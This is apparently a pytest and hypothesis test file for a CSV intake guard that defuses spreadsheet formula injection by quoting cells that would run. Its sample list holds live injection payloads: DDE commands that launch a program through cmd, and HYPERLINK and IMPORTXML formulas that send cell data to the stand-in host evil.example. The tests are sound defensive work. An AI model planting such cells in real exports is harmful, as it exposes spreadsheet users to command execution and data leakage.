"""Cells that a spreadsheet would run: harmless in what we write, and themselves again in what we read back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from metrics.dataset import Dataset
from metrics.intake import guard, rejects_csv, rewrite
from tests.intake.conftest import Stager

RUN = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=1+1",
    "-1+1",
    "+1-1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
    "''@x",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!D2",
    "+49 30 1234-5",
    "@ada",
]  # fmt: skip
GOOD = ["G", "2025-01-01", "x", "1"]
LEFT = [
    "-5",
    "+3.2",
    "-1.234,56 €",
    "- 7 %",
    "+238.4\u202f%",
    "-3\u00a0%",
    "+12e-3",
    "-",
    "--",
    "-9 EUR",
    "a=b",
    "",
    "'tis",
    "it's",
    "ada@x.org",
    " =1",
]
DATASET = Dataset(shape="events", id="id", time="at", columns={"who": "text", "n": "integer"})


@pytest.mark.parametrize("cell", RUN)
def test_what_would_run_is_guarded(cell: str) -> None:
    assert guard.guarded(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", LEFT)
def test_what_would_not_run_stays(cell: str) -> None:
    assert guard.guarded(cell) == cell == guard.unguarded(cell)


@given(st.lists(st.one_of(st.sampled_from([*RUN, *LEFT]), st.text(alphabet="'=+-@\t\r\n＝19.€ aE,;")), max_size=20))
@example(["'", "''", "'-5", "''-5"])
def test_every_cell_comes_back_in_python_and_in_sql(cells: list[str]) -> None:
    made = [guard.guarded(cell) for cell in cells]
    assert [guard.unguarded(cell) for cell in made] == cells
    query = f"SELECT {guard.unguarded_sql('c')} FROM (SELECT unnest($cells::VARCHAR[]) AS c)"
    assert [row[0] for row in duckdb.execute(query, {"cells": made}).fetchall()] == cells


def test_a_cell_never_leaves_its_quotes_where_a_spreadsheet_cuts_at_another_sign() -> None:
    assert guard.line(["a;=1+1", "b"]) == '"a;=1+1","b"\n'
    assert guard.line(["a\t=1+1", "b"]) == '"a\t=1+1","b"\n'
    assert guard.line(["a", "b"]) == "a,b\n"


def test_rejected_rows_are_harmless_and_load_unchanged_once_repaired(staged: Stager, home: Path) -> None:
    """Also through a second round of rejects; names, segments and ids are what they were in the first file."""
    written = [[f"T{n}", "2025-01-01", cell, "bad"] for n, cell in enumerate([*RUN, *LEFT])]
    out = io.StringIO()
    csv.writer(out).writerows([["id", "at", "who", "n"], *written, GOOD])
    first = staged(out.getvalue(), DATASET, accept=("rejects",))
    for _ in range(2):
        assert first.files is not None
        assert first.files.rejects_path is not None
        text = "".join(rejects_csv(first.files.rejects_path, home))
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows[0] == ["id", "at", "who", "n", "_row", "_reason"]
        assert not [cell for row in rows for cell in row if guard.guarded(cell) != cell and not cell.startswith("'")]
        first = staged(text + ",".join(GOOD) + ",,\n", DATASET, accept=("rejects",))
    repaired = io.StringIO()
    csv.writer(repaired).writerows([rows[0], *([*row[:3], "7", *row[4:]] for row in rows[1:])])
    found = staged(repaired.getvalue(), DATASET)
    assert found.files is not None
    assert found.files.rejected == 0
    got = duckdb.execute(f"SELECT id, who FROM read_parquet('{found.files.rows_path}')").fetchall()
    straight = staged(out.getvalue().replace(",bad", ",7"), DATASET)
    assert straight.files is not None
    wanted = duckdb.execute(
        f"SELECT id, who FROM read_parquet('{straight.files.rows_path}') WHERE id <> 'G'"
    ).fetchall()
    assert dict(got) == dict(wanted)


def test_the_best_reading_of_a_file_is_harmless(home: Path, tmp_path: Path) -> None:
    path, target = tmp_path / "in.csv", tmp_path / "out.csv"
    path.write_text("who;n\n" + "".join(f'"{cell}";1\n' for cell in ("=1+1", "@x", "-5", "a;=2")))
    rewrite(path, home, target)
    assert target.read_text() == 'who,n\n\'=1+1,1\n\'@x,1\n-5,1\n"a;=2","1"\n'
